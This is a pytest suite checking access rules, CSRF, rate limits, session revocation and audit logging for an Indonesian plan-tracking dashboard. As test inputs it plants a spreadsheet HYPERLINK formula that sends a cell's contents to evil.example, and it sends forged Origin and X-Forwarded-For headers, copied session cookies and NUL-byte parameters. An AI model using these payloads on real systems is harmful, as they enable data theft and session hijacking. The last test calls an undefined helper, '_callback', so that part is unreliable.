"""Who may do what, over real HTTP requests to the dashboard's server (Flask test client):
anonymous visitors, an uploader bound to one agency, an admin; the audit log; web safety."""

import base64
import json
import re

import pytest
from click.testing import CliRunner
from sqlmodel import select

from indicators.accounts import add_user
from indicators.db import session
from tests.conftest import fill, make_template, snapshot

PASSWORD = "kata-sandi-yang-panjang"
PLAN = "TTU-2018-2022"


@pytest.fixture
def app(sqlite_store, monkeypatch):
    from dashboard.app import create_app

    monkeypatch.setenv("RADTRACK_SECRET_KEY", "test-key-" + "x" * 40)
    return create_app(sqlite_store)


def _account(engine, name, role, agency=None):
    with session(engine) as s:
        add_user(s, name, PASSWORD, role, agency, actor="test")
        s.commit()


def _login(client, name, password=PASSWORD):
    page = client.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    return client.post(
        "/login", data={"username": name, "password": password, "csrf_token": token, "next": "/"}
    )


def _dependencies(client) -> list[dict]:
    return client.get("/_dash-dependencies").get_json()


def _page(client, path="/", search=""):
    """What the pages callback renders for a visit to `path?search`."""
    body = {
        "output": ".._pages_content.children..._pages_store.data..",
        "outputs": [
            {"id": "_pages_content", "property": "children"},
            {"id": "_pages_store", "property": "data"},
        ],
        "inputs": [
            {"id": "_pages_location", "property": "pathname", "value": path},
            {"id": "_pages_location", "property": "search", "value": search},
        ],
        "changedPropIds": ["_pages_location.pathname"],
        "state": [],
    }
    response = client.post("/_dash-update-component", json=body)
    assert response.status_code == 200
    return response.get_data(as_text=True)


def _load_upload(client, path, name: str | None = None):
    """Press the upload page's Load button for `path` (sent as `name`, default its own), as the
    browser's callback does."""
    output = next(d["output"] for d in _dependencies(client) if "upload-result" in d["output"])
    data = base64.b64encode(path.read_bytes()).decode()
    pending = [
        {"name": name or path.name, "contents": f"data:application/octet-stream;base64,{data}"}
    ]
    body = {
        "output": output,
        "outputs": [
            {"id": "upload-result", "property": "children"},
            {"id": "upload-confirm", "property": "disabled"},
        ],
        "inputs": [{"id": "upload-confirm", "property": "n_clicks", "value": 1}],
        "state": [
            {"id": "upload-pending", "property": "data", "value": pending},
            {"id": "upload-lang", "property": "data", "value": "en"},
        ],
        "changedPropIds": ["upload-confirm.n_clicks"],
    }
    return client.post("/_dash-update-component", json=body)


def test_open_until_the_first_account(app, sqlite_store):
    client = app.server.test_client()
    assert client.get(f"/api/catalogue?plan={PLAN}").status_code == 200
    assert "Belum ada akun" in _page(client)
    _account(sqlite_store, "sekretariat", "admin")
    assert client.get(f"/api/catalogue?plan={PLAN}").status_code == 404
    assert "Belum ada akun" not in _page(client)


def test_anonymous_visitors_read_published_plans_only(app, sqlite_store):
    client = app.server.test_client()
    _account(sqlite_store, "sekretariat", "admin")
    assert "Belum ada RAD yang dipublikasikan" in _page(client)
    assert "belum dipublikasikan" in _page(client, "/bidang", f"?plan={PLAN}")
    assert client.get("/download/catalogue.csv").get_data(as_text=True).count("\n") == 1  # header
    assert client.get(f"/api/indicator_progress?plan={PLAN}").status_code == 404
    result = CliRunner().invoke(
        __import__("radtrack.cli", fromlist=["main"]).main,
        ["publish", PLAN],
        env={"RADTRACK_DATABASE_URL": str(sqlite_store.url)},
    )
    assert result.exit_code == 0, result.output
    assert "Ringkasan capaian RAD" in _page(client)
    assert client.get(f"/api/indicator_progress?plan={PLAN}").status_code == 200
    with session(sqlite_store) as s:
        from indicators.audit import audit_table

        assert audit_table(s, 1).iloc[0][["actor", "action", "target"]].tolist() == [
            "command line",
            "plan.published",
            PLAN,
        ]
    assert "Unggah laporan" not in _page(client, "/unggah")  # the upload page asks to log in
    assert "Hanya akun pengunggah atau admin" in _page(client, "/unggah")


def test_an_uploader_loads_its_own_agency_only_and_every_load_is_audited(
    app, sqlite_store, tmp_path
):
    _account(sqlite_store, "sekretariat", "admin")
    _account(sqlite_store, "polres-ttu", "uploader", "POLRES")
    own = fill(
        make_template(sqlite_store, tmp_path / "polres.xlsx", "POLRES", 2020),
        {"3.a.1.1": {"value": 4}},
    )
    other = fill(
        make_template(sqlite_store, tmp_path / "dinsos.xlsx", "DINSOS", 2020),
        {"2.a.1.3": {"value": 9}},
    )
    anonymous = app.server.test_client()
    before = snapshot(sqlite_store)
    assert _load_upload(anonymous, own).status_code == 204  # nothing done, nothing written
    assert snapshot(sqlite_store) == before

    uploader = app.server.test_client()
    assert _login(uploader, "polres-ttu").status_code == 302
    refused = _load_upload(uploader, other).get_data(as_text=True)
    assert "your account may report for POLRES only" in refused
    assert snapshot(sqlite_store)["values"] == before["values"]
    sent = _load_upload(uploader, own).get_data(as_text=True)
    assert "sent for review" in sent  # the plan reviews agency uploads (the default)

    admin = app.server.test_client()
    assert _login(admin, "sekretariat").status_code == 302
    assert "loaded" in _load_upload(admin, other).get_data(as_text=True)
    log = admin.get("/download/audit.csv").get_data(as_text=True)
    assert re.search(r"polres-ttu,submission\.submitted,polres\.xlsx,TTU-2018-2022", log)
    assert re.search(r"sekretariat,submission\.loaded,dinsos\.xlsx", log)
    assert "test,user.added,polres-ttu" in log
    assert uploader.get("/download/audit.csv").status_code == 403
    assert "Halaman ini hanya untuk admin" in _page(uploader, "/audit")
    assert "Log audit" in _page(admin, "/audit")
    page = _page(admin, "/audit", "?lang=en")  # actions and details in words, not codes
    assert "Report loaded" in page and "rows after: " in page and "submission.loaded" not in page
    assert "Laporan dimuat" in _page(admin, "/audit")
    assert "submission.loaded" in log  # the CSV keeps the stable codes


def test_login_is_rate_limited_and_checked(app, sqlite_store):
    _account(sqlite_store, "sekretariat", "admin")
    client = app.server.test_client()
    statuses = [_login(client, "sekretariat", "salah-salah-salah").status_code for _ in range(6)]
    assert statuses == [401] * 5 + [429]


def test_web_safety_headers_cross_site_posts_and_forged_logins(app, sqlite_store):
    _account(sqlite_store, "sekretariat", "admin")
    client = app.server.test_client()
    response = client.get("/")
    assert response.headers["X-Frame-Options"] == "DENY"
    assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    forged = client.post(
        "/_dash-update-component", json={}, headers={"Origin": "http://evil.example"}
    )
    assert forged.status_code == 403
    no_token = client.post("/login", data={"username": "sekretariat", "password": PASSWORD})
    assert no_token.status_code == 400
    assert _login(client, "sekretariat").headers["Location"] == "/"
    cookies = _login(client, "sekretariat").headers.getlist("Set-Cookie")
    cookie = next(c for c in cookies if c.startswith("session="))
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie


def test_a_server_error_shows_no_stack_trace(app):
    client = app.server.test_client()
    broken = client.post(
        "/_dash-update-component",
        json={"output": "nothing.children", "outputs": {"id": "nothing", "property": "children"},
              "inputs": [], "state": [], "changedPropIds": []},
    )  # fmt: skip
    text = broken.get_data(as_text=True)
    assert broken.status_code >= 400
    assert "Traceback" not in text and 'File "' not in text


def test_accounts_on_the_command_line(sqlite_store):
    from radtrack.cli import main

    env = {"RADTRACK_DATABASE_URL": str(sqlite_store.url)}
    runner = CliRunner()
    added = runner.invoke(
        main,
        ["user", "add", "Polres-TTU", "--role", "uploader", "--agency", "polres"],
        input=f"{PASSWORD}\n{PASSWORD}\n",
        env=env,
    )
    assert added.exit_code == 0, added.output
    assert PASSWORD not in added.output
    short = runner.invoke(
        main, ["user", "add", "x", "--role", "admin", "--password", "pendek"], env=env
    )
    assert short.exit_code != 0 and "at least 10 characters" in short.output
    no_agency = runner.invoke(
        main, ["user", "add", "y", "--role", "uploader", "--password", PASSWORD], env=env
    )
    assert "belongs to one agency" in no_agency.output
    listed = runner.invoke(main, ["user", "list"], env=env).output
    assert listed.strip() == "polres-ttu\tuploader POLRES"
    assert runner.invoke(main, ["user", "remove", "polres-ttu"], env=env).exit_code == 0
    assert "(nonaktif)" in runner.invoke(main, ["user", "list"], env=env).output
    log = json.loads(runner.invoke(main, ["audit", "--format", "json"], env=env).output)
    assert [e["action"] for e in log][:2] == ["user.removed", "user.added"]
    assert log[0]["actor"] == "command line"


def _decide(client, pending_id: int, action: str, reason: str = ""):
    """Press Approve or Return for one waiting upload, as the review page's callback does."""
    output = next(d["output"] for d in _dependencies(client) if "review-result" in d["output"])
    button = {"type": f"review-{action}", "id": pending_id}
    others = "return" if action == "approve" else "approve"
    body = {
        "output": output,
        "outputs": [
            {"id": "review-result", "property": "children"},
            {"id": "review-list", "property": "children"},
            {"id": "review-history-box", "property": "children"},
        ],
        "inputs": [
            [
                {
                    "id": {"type": "review-approve", "id": pending_id},
                    "property": "n_clicks",
                    "value": 1 if action == "approve" else None,
                }
            ],
            [
                {
                    "id": {"type": "review-return", "id": pending_id},
                    "property": "n_clicks",
                    "value": 1 if action == "return" else None,
                }
            ],
        ],  # fmt: skip
        "state": [
            [
                {
                    "id": {"type": "review-reason", "id": pending_id},
                    "property": "value",
                    "value": reason,
                }
            ],
            [
                {
                    "id": {"type": "review-reason", "id": pending_id},
                    "property": "id",
                    "value": {"type": "review-reason", "id": pending_id},
                }
            ],
            {"id": "review-lang", "property": "data", "value": "en"},
        ],  # fmt: skip
        "changedPropIds": [json.dumps(button, sort_keys=True, separators=(",", ":")) + ".n_clicks"],
    }
    assert others  # the other button exists on the page but was not pressed
    return client.post("/_dash-update-component", json=body)


def test_agency_uploads_wait_for_review_and_count_once_approved(app, sqlite_store, tmp_path):
    from indicators.compliance import compliance_table
    from indicators.queries import get_plan, pending_table
    from radtrack.cli import main

    _account(sqlite_store, "sekretariat", "admin")
    _account(sqlite_store, "polres-ttu", "uploader", "POLRES")
    first = fill(
        make_template(sqlite_store, tmp_path / "p2019.xlsx", "POLRES", 2019),
        {"3.a.1.1": {"value": 4}},
    )
    second = fill(
        make_template(sqlite_store, tmp_path / "p2020.xlsx", "POLRES", 2020),
        {"3.a.1.1": {"value": 40}},
    )
    uploader, admin = app.server.test_client(), app.server.test_client()
    _login(uploader, "polres-ttu")
    _login(admin, "sekretariat")
    before = snapshot(sqlite_store)["values"]
    assert "sent for review" in _load_upload(uploader, first).get_data(as_text=True)
    assert "sent for review" in _load_upload(uploader, second).get_data(as_text=True)
    assert snapshot(sqlite_store)["values"] == before  # nothing counts yet
    with session(sqlite_store) as s:
        waiting = pending_table(s).set_index("file")["id"].to_dict()
        states = compliance_table(s, get_plan(s)).set_index(["agency", "year"])["state"]
    assert states[("POLRES", 2019)] == states[("POLRES", 2020)] == "submitted"

    assert _decide(uploader, waiting["p2019.xlsx"], "approve").status_code == 204  # not admin
    approved = _decide(admin, waiting["p2019.xlsx"], "approve").get_data(as_text=True)
    assert "p2019.xlsx: approved and loaded." in approved
    needs_reason = _decide(admin, waiting["p2020.xlsx"], "return", "  ").get_data(as_text=True)
    assert "Write why it goes back." in needs_reason
    returned = _decide(admin, waiting["p2020.xlsx"], "return", "40 penyidik? Periksa lagi.")
    assert "p2020.xlsx: returned." in returned.get_data(as_text=True)

    with session(sqlite_store) as s:
        plan = get_plan(s)
        table = compliance_table(s, plan).set_index(["agency", "year"])
    assert table.loc[("POLRES", 2019), "state"] in ("on_time", "late")
    assert table.loc[("POLRES", 2020), "state"] == "returned"
    assert "40 penyidik? Periksa lagi." in table.loc[("POLRES", 2020), "file"]
    values = snapshot(sqlite_store)["values"]
    assert [v[3] for v in values] == [4.0]  # only the approved figure counts
    log = admin.get("/download/audit.csv").get_data(as_text=True)
    for action in ("submission.submitted", "submission.approved", "submission.returned"):
        assert action in log
    assert "Periksa lagi" in _page(admin, "/kepatuhan")
    with session(sqlite_store) as s:
        plan.published = True
        s.add(plan)
        s.commit()
    public = _page(app.server.test_client(), "/kepatuhan")
    assert "dikembalikan" in public and "Periksa lagi" not in public  # the reason stays inside

    # The secretariat may switch review off for a plan: uploads then count at once.
    result = CliRunner().invoke(
        main, ["review", PLAN, "--off"], env={"RADTRACK_DATABASE_URL": str(sqlite_store.url)}
    )
    assert result.exit_code == 0, result.output
    fixed = fill(
        make_template(sqlite_store, tmp_path / "p2020b.xlsx", "POLRES", 2020),
        {"3.a.1.1": {"value": 4}},
    )
    assert "loaded" in _load_upload(uploader, fixed).get_data(as_text=True)
    assert sorted(v[3] for v in snapshot(sqlite_store)["values"]) == [4.0, 4.0]


def test_the_all_plans_value_never_opens_an_unpublished_plan(app, sqlite_store):
    """`plan=semua` passed the guard and the one-plan pages read it as "no plan", which loaded
    the first plan by code, published or not."""
    client = app.server.test_client()
    _account(sqlite_store, "sekretariat", "admin")
    statement = "Tersosialisasikannya kepada 5.000 orang"
    for path, search in (("/indikator", "?plan=semua&code=1.a.1.1"), ("/bidang", "?plan=semua")):
        page = _page(client, path, search)
        assert statement not in page and "Pencegahan, Pembinaan" not in page, path
        assert "Belum ada RAD yang dipublikasikan" in page, path


def _cli(engine, *args, stdin=None):
    from radtrack.cli import main

    env = {"RADTRACK_DATABASE_URL": str(engine.url)}
    return CliRunner().invoke(main, [str(a) for a in args], input=stdin, env=env)


def test_logout_ends_the_session_even_for_a_copied_cookie(app, sqlite_store):
    _account(sqlite_store, "sekretariat", "admin")
    client = app.server.test_client()
    _login(client, "sekretariat")
    thief = app.server.test_client()
    thief.set_cookie("session", client.get_cookie("session").value)
    assert thief.get("/download/audit.csv").status_code == 200  # the copy works while signed in
    logout = client.post("/logout", data={"csrf_token": _form_token(client)})
    assert logout.status_code == 302
    assert thief.get("/download/audit.csv").status_code == 403  # the copied cookie is dead too
    with session(sqlite_store) as s:
        from indicators.audit import audit_table

        assert audit_table(s, 1).iloc[0]["action"] == "user.logged_out"


def _form_token(client) -> str:
    """A CSRF token of `client`'s session, as a form on the site would carry it."""
    page = client.get("/login").get_data(as_text=True)
    return re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)


def test_passwords_are_changed_checked_for_strength_and_end_sessions(app, sqlite_store):
    _account(sqlite_store, "sekretariat", "admin")
    _account(sqlite_store, "kedua", "admin")
    client = app.server.test_client()
    _login(client, "kedua")
    assert client.get("/download/audit.csv").status_code == 200
    weak = _cli(sqlite_store, "user", "passwd", "kedua", "--password-stdin", stdin="password1234\n")
    assert weak.exit_code != 0 and "too weak" in weak.output and "common" in weak.output
    changed = _cli(
        sqlite_store, "user", "passwd", "kedua", "--password-stdin", stdin="Timor Utara 2025 ok\n"
    )
    assert changed.exit_code == 0, changed.output
    assert client.get("/download/audit.csv").status_code == 403  # signed out everywhere
    assert _login(client, "kedua").status_code == 401  # the old password no longer works
    assert _login(client, "kedua", "Timor Utara 2025 ok").status_code == 302
    for weak_one in ("1234567890", "qwertyuiop", "sekretariat1"):
        result = _cli(sqlite_store, "user", "add", "z", "--role", "viewer", "--password", weak_one)
        assert result.exit_code != 0 and "too weak" in result.output, weak_one


def test_the_last_admin_cannot_be_removed_and_a_removed_name_comes_back(app, sqlite_store):
    _account(sqlite_store, "sekretariat", "admin")
    _account(sqlite_store, "pembaca", "viewer")
    refused = _cli(sqlite_store, "user", "remove", "sekretariat")
    assert refused.exit_code != 0 and "last active admin" in refused.output
    client = app.server.test_client()
    assert client.get("/download/audit.csv").status_code == 403  # still closed
    assert _cli(sqlite_store, "user", "remove", "pembaca").exit_code == 0
    again = _cli(
        sqlite_store, "user", "add", "pembaca", "--role", "viewer", "--password-stdin",
        stdin=f"{PASSWORD}\n",
    )  # fmt: skip
    assert again.exit_code == 0, again.output
    assert "GetPassWarning" not in again.output
    listed = _cli(sqlite_store, "user", "list").output.splitlines()
    assert sorted(listed) == ["pembaca\tviewer", "pembaca\tviewer (nonaktif)", "sekretariat\tadmin"]
    assert _login(client, "pembaca").status_code == 302


def test_login_limits_follow_the_client_behind_a_trusted_proxy_and_the_account(
    app, sqlite_store, monkeypatch
):
    """Behind the reverse proxy the README recommends every request comes from its address:
    five wrong guesses by one client must not lock out the others, and the audit log names the
    client. A client cannot dodge the limit by writing its own X-Forwarded-For, and guesses at
    one account from many addresses are limited too."""
    _account(sqlite_store, "sekretariat", "admin")
    _account(sqlite_store, "kedua", "admin")
    monkeypatch.setenv("RADTRACK_TRUSTED_PROXIES", "127.0.0.1/32")
    client = app.server.test_client()

    def attempt(client_ip, name="sekretariat", password="salah-salah-salah", forged=""):
        header = f"{forged}, {client_ip}" if forged else client_ip
        page = client.get("/login").get_data(as_text=True)
        token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
        data = {"username": name, "password": password, "csrf_token": token}
        return client.post("/login", data=data, headers={"X-Forwarded-For": header}).status_code

    assert [attempt("203.0.113.7") for _ in range(6)] == [401] * 5 + [429]
    assert attempt("203.0.113.7", forged="198.51.100.99") == 429  # a forged hop changes nothing
    assert attempt("198.51.100.20", name="kedua", password=PASSWORD) == 302  # others get in
    with session(sqlite_store) as s:
        from indicators.audit import audit_table

        failed = audit_table(s)
        failed = failed[failed["action"] == "login.failed"]
        assert set(failed["target"]) == {"203.0.113.7"}
    _account(sqlite_store, "ketiga", "viewer")
    statuses = [attempt(f"192.0.2.{n}", name="ketiga") for n in range(11)]
    assert statuses[:10] == [401] * 10 and statuses[10] == 429  # one account, many addresses


def test_the_audit_csv_carries_no_live_formula(app, sqlite_store):
    """An anonymous visitor plants a formula through a failed login's user name."""
    _account(sqlite_store, "sekretariat", "admin")
    client = app.server.test_client()
    planted = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    page = client.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    client.post("/login", data={"username": planted, "password": "x", "csrf_token": token})
    _login(client, "sekretariat")
    text = client.get("/download/audit.csv").get_data(as_text=True)
    assert "'=HYPERLINK" in text
    assert not any(
        line.split(",")[1].lstrip('"').startswith(("=", "+", "-", "@"))
        for line in text.splitlines()[1:]
    )


def test_the_review_queue_keeps_one_copy_and_loads_no_body_it_does_not_open(
    app, sqlite_store, tmp_path, monkeypatch
):
    """Five uploads of one file kept five full copies, /tinjau read every body on each view,
    and approving a file that already counted said "approved and loaded"."""
    from indicators.models import PendingUpload
    from indicators.queries import pending_table
    from loaders import review

    _account(sqlite_store, "sekretariat", "admin")
    _account(sqlite_store, "polres-ttu", "uploader", "POLRES")
    report = fill(
        make_template(sqlite_store, tmp_path / "p2019.xlsx", "POLRES", 2019),
        {"3.a.1.1": {"value": 4}},
    )
    uploader, admin = app.server.test_client(), app.server.test_client()
    _login(uploader, "polres-ttu")
    _login(admin, "sekretariat")
    assert "sent for review" in _load_upload(uploader, report).get_data(as_text=True)
    again = _load_upload(uploader, report).get_data(as_text=True)
    assert "already waiting for the secretariat's review" in again
    with session(sqlite_store) as s:
        assert len(s.exec(select(PendingUpload)).all()) == 1  # one copy kept

    # the list of waiting uploads never reads the files themselves
    statements = []
    from sqlalchemy import event

    def seen(conn, cursor, statement, *args):
        statements.append(statement)

    event.listen(sqlite_store, "before_cursor_execute", seen)
    try:
        with session(sqlite_store) as s:
            table = pending_table(s)
    finally:
        event.remove(sqlite_store, "before_cursor_execute", seen)
    assert len(table) == 1
    assert not any("pending_upload.data" in st for st in statements)

    # once it counts, the same bytes cannot wait again, and approving a copy loads nothing
    (waiting,) = table["id"]
    decided = _decide(admin, waiting, "approve").get_data(as_text=True)
    assert "approved and loaded" in decided
    answer = _load_upload(uploader, report).get_data(as_text=True)
    assert "already counts" in answer, answer
    with session(sqlite_store) as s:
        copy = s.get(PendingUpload, waiting)
        s.expunge(copy)
    copy.id, copy.status = None, review.ReviewStatus.SUBMITTED
    with session(sqlite_store) as s:  # a copy from before the check existed
        s.add(PendingUpload(**copy.model_dump(exclude={"id"})))
        s.commit()
        second = s.exec(select(PendingUpload.id).order_by(PendingUpload.id.desc())).first()
    answer = _decide(admin, second, "approve").get_data(as_text=True)
    assert "already counts; nothing was loaded" in answer and "approved and loaded" not in answer

    # a per-agency quota on what waits
    monkeypatch.setattr(review, "QUOTA_FILES", 1)
    other = fill(
        make_template(sqlite_store, tmp_path / "p2020.xlsx", "POLRES", 2020),
        {"3.a.1.1": {"value": 5}},
    )
    assert "the most one agency may keep waiting" in _load_upload(uploader, other).get_data(
        as_text=True
    )


def test_malformed_parameters_are_refused_not_a_server_error(store, tmp_path, monkeypatch):
    """Repeated query parameters, a NUL byte (PostgreSQL refuses it in a query) or a lone
    surrogate in an uploaded file's name gave HTTP 500."""
    from dashboard.app import create_app

    monkeypatch.setenv("RADTRACK_SECRET_KEY", "test-key-" + "x" * 40)
    client = create_app(store).server.test_client()
    for url in (
        f"/api/achievements?plan={PLAN}&plan=X",
        "/api/achievements?plan=%00",
        "/download/achievements.csv?agency=%00",
        "/download/radtrack.xlsx?year=2019&year=2020",
        "/?plan=%00",
        f"/indikator?plan={PLAN}&code=1.a.1.1&code=1.a.1.2",
    ):
        response = client.get(url)
        assert response.status_code == 400, url
        assert "Traceback" not in response.get_data(as_text=True)
    assert client.get("/api/achievements?plan=%00").get_json()["ok"] is False
    for path in ("/", "/indikator", "/bidang", "/kepatuhan", "/anggaran", "/unduh", "/konteks"):
        for search in (f"?plan={PLAN}&plan=X", "?plan=%00", f"?plan={PLAN}&year=2019&year=2020"):
            assert "parameter is given twice or holds a control" in _page(
                client, path, search + "&lang=en"
            ), (path, search)
    template = fill(
        make_template(store, tmp_path / "t.xlsx", "POLRES", 2019), {"3.a.1.1": {"value": 2}}
    )
    # a lone surrogate travels as \\udc80 in the callback's JSON, as a browser may send it
    response = _load_upload(client, template, name="lap\udc80\x00.xlsx")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert "1 files loaded" in response.get_data(as_text=True)
    with session(store) as s:
        from indicators.models import Submission

        assert s.exec(select(Submission.file_name)).all() == ["lap?_.xlsx"]


# Every Flask route and Dash callback, with who may use it. A route or callback added without
# an entry here fails test_every_route_and_callback_obeys_one_rule until its rule is decided.
ROUTES = {
    "/static/<path:filename>": "anyone (no data)",
    "/assets/<path:filename>": "anyone (no data)",
    "/_dash-component-suites/<string:package_name>/<path:fingerprinted_path>": "anyone",
    "/_dash-layout": "anyone (the shell: no figures)",
    "/_dash-dependencies": "anyone (callback wiring: no figures)",
    "/_dash-update-component": "each callback checks (CALLBACKS)",
    "/_reload-hash": "anyone (dev reload, off in production)",
    "/_favicon.ico": "anyone",
    "/": "anyone (the app's HTML: figures come through callbacks)",
    "/<path:path>": "anyone (the app's HTML)",
    "/download/<name>.<fmt>": (
        "published plans for anonymous; audit.csv, templates.zip, responsibility.csv admins "
        "only; evaluasi.xlsx and the reports (docx, pdf) signed-in only"
    ),
    "/api": "anyone (table list)",
    "/api/<name>": "published plans for anonymous",
    "/login": "anyone",
    "/logout": "signed-in with a form token",
}
CALLBACKS = {
    "url": "anyone: builds a URL from the filters, reads nothing",
    "review-result": "admins only (approve or return)",
    "download-links": "anyone: links from the page's own filters, reads nothing",
    "upload-report": "uploaders and admins (check files, writes nothing)",
    "upload-result": "uploaders (own agency) and admins (load files)",
    "_pages_content": "each page's guard (dashboard.guard)",
    "indicator-list": "anyone who may read the plan named (checked in the callback)",
    "_pages_dummy": "client-side only",
    "nav-collapse": "client-side only (opens the phone menu)",
    "new-agency-result": "admins only (adds an agency)",
    "narrative-result": "admins only (writes the secretariat's narrative of a bidang)",
    "edit-agency-result": "admins only (renames, aliases, contact, retires an agency)",
    "edit-name": "admins only (reads an agency's fields into the form)",
    "matrix-result": "admins only (imports a responsibility matrix)",
    "reminder-result": "admins only (records a WhatsApp reminder)",
    "templates-link": "anyone: a link from the page's own choices, reads nothing",
}


def _callback_key(output: str) -> str:
    return output.strip(".").split(".")[0]


def _check_files(client, path):
    output = next(d["output"] for d in _dependencies(client) if "upload-report" in d["output"])
    data = base64.b64encode(path.read_bytes()).decode()
    body = {
        "output": output,
        "outputs": [
            {"id": "upload-report", "property": "children"},
            {"id": "upload-pending", "property": "data"},
            {"id": "upload-confirm", "property": "disabled"},
        ],
        "inputs": [
            {
                "id": "upload-files",
                "property": "contents",
                "value": [f"data:application/octet-stream;base64,{data}"],
            }
        ],
        "state": [
            {"id": "upload-files", "property": "filename", "value": [path.name]},
            {"id": "upload-lang", "property": "data", "value": "en"},
        ],
        "changedPropIds": ["upload-files.contents"],
    }
    return client.post("/_dash-update-component", json=body)


def _search_indicators(client, text: str, plan: str = PLAN):
    output = next(d["output"] for d in _dependencies(client) if "indicator-list" in d["output"])
    body = {
        "output": output,
        "outputs": {"id": "indicator-list", "property": "children"},
        "inputs": [{"id": "indicator-search", "property": "value", "value": text}],
        "state": [{"id": "indicator-args", "property": "data", "value": {"plan": plan}}],
        "changedPropIds": ["indicator-search.value"],
    }
    return client.post("/_dash-update-component", json=body)


def test_every_route_and_callback_obeys_one_rule(store, tmp_path, monkeypatch):
    """Anonymous, a viewer, an uploader of another agency and an admin, against every route
    and callback the server has, with the plan unpublished: who may read and write what."""
    from dashboard.app import create_app
    from indicators.models import PendingUpload, Plan
    from indicators.summary import refresh_stale

    monkeypatch.setenv("RADTRACK_SECRET_KEY", "test-key-" + "x" * 40)
    app = create_app(store)
    _account(store, "sekretariat", "admin")
    _account(store, "pembaca", "viewer")
    _account(store, "dinsos", "uploader", "DINSOS")
    with session(store) as s:
        assert not s.exec(select(Plan.published)).first()
    clients = {"anonymous": app.server.test_client()}
    for role, name in (("viewer", "pembaca"), ("uploader", "dinsos"), ("admin", "sekretariat")):
        clients[role] = app.server.test_client()
        assert _login(clients[role], name).status_code == 302

    rules = {r.rule for r in app.server.url_map.iter_rules()}
    assert rules == set(ROUTES), "a route without a decided rule"
    clients["anonymous"].get("/")
    outputs = {_callback_key(d["output"]) for d in _dependencies(clients["anonymous"])}
    assert outputs == set(CALLBACKS), "a callback without a decided rule"

    polres = fill(
        make_template(store, tmp_path / "polres_2019.xlsx", "POLRES", 2019),
        {"3.a.1.1": {"value": 4}},
    )
    for role, client in clients.items():
        reads = role != "anonymous"
        api = client.get(f"/api/indicator_progress?plan={PLAN}")
        assert api.status_code == (200 if reads else 404), role
        package = client.get(f"/download/datapackage.zip?plan={PLAN}")
        assert package.status_code == (200 if reads else 404), role
        lines = client.get("/download/catalogue.csv").get_data(as_text=True).count("\n")
        assert (lines > 40) if reads else (lines == 1), role
        audit_csv = client.get("/download/audit.csv")
        assert audit_csv.status_code == (200 if role == "admin" else 403), role
        assert client.get("/api").status_code == 200
        assert client.post("/logout").status_code == 400  # no form token

        for path in ("/", "/bidang", "/indikator", "/kepatuhan", "/anggaran", "/unduh"):
            text = _page(client, path, f"?plan={PLAN}&code=1.a.1.1&lang=en")
            assert ("is not published" in text) != reads, (
                role,
                path,
            )
        for path in ("/audit", "/tinjau"):
            assert ("admins only" in _page(client, path, "?lang=en").lower()) != (
                role == "admin"
            ), (role, path)
        upload_page = _page(client, "/unggah", "?lang=en")
        may_upload = role in ("uploader", "admin")
        assert ("Only uploader or admin accounts" in upload_page) != may_upload, role

        checked = _check_files(client, polres)
        assert checked.status_code == (200 if may_upload else 204), role
        refresh_stale(store)  # the summaries a load refreshes are derived, not what it changes
        before = snapshot(store)
        loaded = _load_upload(client, polres)
        if role == "admin":
            assert "1 files loaded" in loaded.get_data(as_text=True)
        elif role == "uploader":  # DINSOS's account, a POLRES report: refused, nothing kept
            assert "DINSOS" in loaded.get_data(as_text=True)
            after = snapshot(store)
            assert after["counts"] == before["counts"], {
                k: (v, after["counts"][k]) for k, v in before["counts"].items()
                if after["counts"][k] != v
            }  # fmt: skip
            assert after == before
            with session(store) as s:
                assert s.exec(select(PendingUpload)).all() == []
        else:
            assert loaded.status_code == 204 and snapshot(store) == before
        found = _search_indicators(client, "korban dirujuk")
        assert found.status_code == (200 if reads else 204), role
        if reads:
            assert "2.a.1.3" in found.get_data(as_text=True)
        decided = _decide(client, 1, "return", "periksa")
        assert decided.status_code == (200 if role == "admin" else 204), role

        # the secretariat's agencies page: its callbacks write only for admins
        admin_only = role == "admin"
        for path in ("/instansi", "/mulai"):
            assert ("admins only" in _page(client, path, "?lang=en").lower()) != admin_only, (
                role,
                path,
            )
        before = snapshot(store)
        added = _callback(
            client,
            "new-agency-result",
            {"new-agency.n_clicks": 1},
            {
                "new-code.value": f"X{role.upper()[:5]}",
                "new-name.value": f"Kantor Uji {role}",
                "new-kind.value": "ngo",
                "new-aliases.value": "",
                "new-focal.value": "",
                "new-email.value": "",
                "new-phone.value": "",
                "new-channel.value": "email",
                "agencies-args.data": {"plan": PLAN, "lang": "en"},
            },
        )
        assert added.status_code == (200 if admin_only else 204), role
        matrix = base64.b64encode(b"kode,instansi,utama\n2.a.1,DINSOS,ya\n").decode()
        imported = _callback(
            client,
            "matrix-result",
            {"matrix-upload.contents": f"data:text/csv;base64,{matrix}"},
            {"matrix-upload.filename": "m.csv", "agencies-args.data": {"plan": PLAN, "lang": "en"}},
        )
        assert imported.status_code == (200 if admin_only else 204), role
        fields = _callback(
            client,
            "edit-name",
            {"edit-code.value": "YTB"},
            {"agencies-args.data": {"plan": PLAN, "lang": "en"}},
        )
        assert fields.status_code == (200 if admin_only else 204), role
        retired = _callback(
            client,
            "edit-agency-result",
            {
                "edit-retire.n_clicks": 1,
                "edit-save.n_clicks": None,
                "edit-reactivate.n_clicks": None,
            },
            {
                "edit-code.value": "YTB",
                "edit-retire-on.value": "2030-12-31",
                "agencies-args.data": {"plan": PLAN, "lang": "en"},
            },
        )
        assert retired.status_code == (200 if admin_only else 204), role
        wrote = _callback(
            client,
            "narrative-result",
            {"narrative-save.n_clicks": 1},
            {
                "narrative-year.value": 2020,
                "narrative-pendorong.value": f"teks {role}",
                "narrative-penghambat.value": "",
                "narrative-tindak_lanjut.value": "",
                "narrative-args.data": {"plan": PLAN, "bidang": 2, "lang": "en"},
            },
        )
        assert wrote.status_code == (200 if admin_only else 204), role
        if admin_only:
            assert "Narrative saved" in wrote.get_data(as_text=True)
        if not admin_only:
            assert snapshot(store) == before, role
        else:
            assert "Agency XADMIN added" in added.get_data(as_text=True)
            assert "Matrix loaded: 1 responsibilities" in imported.get_data(as_text=True)
